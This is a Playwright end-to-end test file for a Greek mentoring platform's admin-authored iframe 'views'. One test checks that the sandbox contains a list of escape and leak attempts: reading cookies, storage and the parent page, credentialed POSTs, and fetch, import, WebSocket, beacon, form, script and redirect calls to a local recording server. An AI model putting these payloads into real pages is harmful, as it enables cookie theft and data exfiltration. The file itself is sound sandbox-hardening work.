import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type APIRequestContext, type Page } from '@playwright/test';
import { flag } from '#engines/actions/flags.ts';
import { programme } from '#features/programme/contract.ts';
import { steps } from '#features/steps/contract.ts';
import { projects } from '#features/projects/contract.ts';
import { views } from '#features/views/contract.ts';
import { PROJECT } from './applicants.ts';
import { make } from './calls.ts';
import { test as base } from './staff.ts';
import { enter, expectAccessible, expectFits, settled } from './support.ts';

interface Told {
  /** An Admin, for what a journey prepares without a page. */
  admin: APIRequestContext;
  /** A published action of its own: its id. It is hidden afterwards, so that other journeys do not meet it. */
  action: number;
}

const test = base.extend<Told>({
  admin: async ({ playwright, baseURL }, use) => {
    const http = await playwright.request.newContext({ baseURL: baseURL! });
    await enter(http, 'admin');
    await use(http);
    await http.dispose();
  },
  action: async ({ admin }, use) => {
    const { id: projectId } = await make(admin, projects.open, { name: PROJECT });
    const made = await make(admin, programme.create, { projectId, typeId: 4, title: 'Οι στόχοι μου' });
    const { id, version } = await make(admin, programme.save, {
      id: made.id,
      version: made.version,
      flags: flag.published,
      instructions: { el: '<p>Γράψτε τους στόχους σας.</p>' },
    });
    await use(id);
    await make(admin, programme.save, { id, version, flags: 0 });
  },
});

const menteeOf = async (http: APIRequestContext, name: string) => {
  await enter(http, name);
  const { id: projectId } = await make(http, projects.open, { name: PROJECT });
  return (await make(http, steps.list, { projectId })).mentee;
};

/** Writes into a part of the view in the editor. */
async function write(page: Page, part: string, code: string) {
  await page.getByRole('radiogroup', { name: 'Μέρος της προβολής' }).getByText(part).click();
  const editor = page.getByRole('textbox', { name: part });
  await editor.fill(code);
  await expect(editor).toContainText(code.split('\n').at(-1)!.trim());
}

const title = 'Προβολή: Οι στόχοι μου';
const html = `<h2>Οι στόχοι μου</h2>
<label>Πρώτος στόχος <input id="goal"></label>
<button onclick="keep()">Αποθήκευση στόχων</button>
<p id="said" role="status"></p>`;
const functions = `async function keep() {
  const goal = document.getElementById('goal').value;
  await ithaki.save({ text: 'Στόχος: ' + goal, goal });
  document.getElementById('said').textContent = 'Ευχαριστούμε';
}`;
const controller = `const { goal } = await ithaki.data();
document.getElementById('goal').value = goal ?? '';`;

test(
  'an Admin writes a view, a mentee works with it on a phone, and the mentor sees what was saved',
  { tag: ['@long', '@views', '@steps'] },
  async ({ page, browser, playwright, baseURL, action }) => {
    await enter(page.request, 'admin');
    await page.goto(`/${PROJECT}/admin/project/actionsall?open=${action}`);
    await page.getByRole('link', { name: 'Προβολές και κώδικας της δράσης' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Προβολές: Οι στόχοι μου' })).toBeVisible();
    await write(page, 'HTML', html);
    await write(page, 'Συναρτήσεις', functions);
    await write(page, 'Ελεγκτής', controller);
    await settled(page);
    const preview = page.frameLocator(`iframe[title="${title}"]`);
    await preview.getByLabel('Πρώτος στόχος').fill('Δοκιμή');
    await preview.getByRole('button', { name: 'Αποθήκευση στόχων' }).click();
    await expect(preview.getByText('Ευχαριστούμε')).toBeVisible();
    await page.getByRole('button', { name: 'Αποθήκευση προβολής' }).click();
    await expect(page.getByText('Η προβολή αποθηκεύτηκε.')).toBeVisible();
    await expectAccessible(page);
    await page.setViewportSize({ width: 390, height: 800 });
    await expectFits(page);
    await expectAccessible(page);

    const phone = await browser.newContext({ viewport: { width: 390, height: 800 } });
    const mentee = await phone.newPage();
    await enter(mentee.request, 'mentee');
    await mentee.goto(`/${PROJECT}/mentee/action/${action}`);
    const frame = mentee.frameLocator(`iframe[title="${title}"]`);
    await frame.getByLabel('Πρώτος στόχος').fill('Να στείλω δύο βιογραφικά');
    await frame.getByRole('button', { name: 'Αποθήκευση στόχων' }).click();
    await expect(frame.getByText('Ευχαριστούμε')).toBeVisible();
    await expectFits(mentee);
    await expectAccessible(mentee);
    await mentee.reload();
    await expect(frame.getByLabel('Πρώτος στόχος')).toHaveValue('Να στείλω δύο βιογραφικά');
    await phone.close();

    const http = await playwright.request.newContext({ baseURL: baseURL! });
    const { id: menteeId } = await menteeOf(http, 'mentee');
    await http.dispose();
    const office = await (await browser.newContext()).newPage();
    await enter(office.request, 'mentor');
    await office.goto(`/${PROJECT}/mentor/action/${action}/${menteeId}`);
    await expect(office.getByText('Στόχος: Να στείλω δύο βιογραφικά')).toBeVisible();
    // The mentors have no view of this action: they read the instructions.
    await expect(office.getByText('Γράψτε τους στόχους σας.')).toBeVisible();
    await office.context().close();
  },
);

/** Another site, which records every request that reaches it. */
async function aStranger(): Promise<{ server: Server; url: string; reached: string[] }> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reached };
}

/** The ways in which a view tries to get out, each by what it would give access to. */
const escapes = (stranger: string): [string, string][] => [
  ['the page', 'return parent.document.body.innerHTML'],
  ['the page above', 'return top.location.href'],
  ['storage', 'return localStorage.length'],
  ['cookies', 'return document.cookie'],
  ['a database', "return indexedDB.open('x')"],
  ['the calls', "await fetch('/Account/Identity', { method: 'POST', credentials: 'include' })"],
  ['another site', `await fetch('${stranger}/fetch')`],
  ['a module', `await import('${stranger}/module.js')`],
  [
    'a socket',
    `await new Promise((ok, no) => { const s = new WebSocket('${stranger}/socket'.replace('http', 'ws')); s.onopen = ok; s.onerror = no; })`,
  ],
  ['a peer', 'return new RTCPeerConnection()'],
  [
    'a peer of another window',
    "const f = document.createElement('iframe'); document.body.append(f); return new f.contentWindow.RTCPeerConnection()",
  ],
  ['the top', "top.location = '/signin'; throw 1"],
];

test('a view reaches neither the page nor the product nor another site, and one that hangs is taken away', async ({
  page,
  admin,
  action,
}) => {
  const stranger = await aStranger();
  const put = (code: object) =>
    make(admin, views.save, { of: 'action', id: action, viewType: 'mentee', ...code });
  const tries = escapes(stranger.url).map(([what, code]) => `['${what}', async () => { ${code} }]`);
  const leaks = `<img src="${stranger.url}/image"><link rel="prefetch" href="${stranger.url}/prefetch">
<style>@import '${stranger.url}/sheet'; body { background: url('${stranger.url}/background') }</style>
<form action="${stranger.url}/form"><button id="go">Go</button></form><iframe src="${stranger.url}/frame"></iframe>
<script src="${stranger.url}/script"></script><meta http-equiv="refresh" content="600;url=${stranger.url}/refresh">`;
  await put({
    html: `<p id="said">…</p>${leaks}`,
    controller: `const open = [];
for (const [what, way] of [${tries.join(',\n')}])
  try { await way(); open.push(what); } catch {}
navigator.sendBeacon?.('${stranger.url}/beacon');
document.getElementById('go').click();
document.querySelector('form').submit();
document.getElementById('said').textContent = 'Ανοιχτά: ' + (open.join(', ') || 'τίποτα');`,
  });
  await enter(page.request, 'mentee');
  await page.goto(`/${PROJECT}/mentee/action/${action}`);
  const frame = page.frameLocator(`iframe[title="${title}"]`);
  await expect(frame.getByText('Ανοιχτά: τίποτα')).toBeVisible();

  // It may go away by itself, but not to another site, and then it is no longer there.
  await put({ html: '<p>Φεύγω</p>', controller: `location.href = '${stranger.url}/left?data';` });
  await page.reload();
  await expect(page.getByText('Η προβολή της δράσης δεν άνοιξε')).toBeVisible();
  await expect(page.getByText('Γράψτε τους στόχους σας.')).toBeVisible();
  expect(stranger.reached).toEqual([]);
  stranger.server.close();

  await put({ html: '<p>Για πάντα</p>', controller: 'for (;;) {}' });
  await page.reload();
  await page.getByTitle(title).waitFor({ state: 'attached' });
  // The page works while the view hangs.
  const field = page.getByRole('textbox', { name: 'Το κείμενό σας' });
  await field.fill('Γράφω κανονικά.');
  await expect(page.getByText(/^Αποθηκεύτηκε \d\d:\d\d$/)).toBeVisible();
  await expect(page.getByText('Η προβολή της δράσης δεν άνοιξε')).toBeVisible();
  await expect(page.getByTitle(title)).toHaveCount(0);
});

test('a controller that fails gives a user a next step, and an Admin the message with a link to its line', async ({
  page,
  browser,
  admin,
  action,
}) => {
  const failing = "const a = 1;\n\nthrow new Error('Λείπει το πεδίο');";
  for (const viewType of ['mentee', 'staff'])
    await make(admin, views.save, { of: 'action', id: action, viewType, controller: failing });
  await enter(page.request, 'mentee');
  await page.goto(`/${PROJECT}/mentee/action/${action}`);
  await expect(page.getByText('Η προβολή της δράσης δεν άνοιξε')).toBeVisible();
  await expect(page.getByText('Γράψτε τους στόχους σας.')).toBeVisible();
  await expect(page.getByText('Λείπει το πεδίο')).toHaveCount(0);
  await expectAccessible(page);
  const { id } = (await make(page.request, steps.step, { actionId: action })).mentee;

  const office = await (await browser.newContext()).newPage();
  await enter(office.request, 'admin');
  await office.goto(`/${PROJECT}/mentee/action/${action}?mentee=${id}`);
  await expect(office.getByText('Λείπει το πεδίο')).toBeVisible();
  await expect(office.getByText('Ελεγκτής, γραμμή 3')).toBeVisible();
  await expectAccessible(office);
  await office.getByRole('link', { name: 'Άνοιγμα του κώδικα' }).click();
  const editor = office.getByRole('textbox', { name: 'Ελεγκτής' });
  await expect(editor).toBeFocused();
  await office.keyboard.insertText('// ');
  await expect(editor).toContainText("// throw new Error('Λείπει το πεδίο');");
  await office.getByRole('button', { name: 'Αποθήκευση προβολής' }).click();
  await expect(office.getByText('Η προβολή αποθηκεύτηκε.')).toBeVisible();
  await settled(office);
  await office.context().close();
});
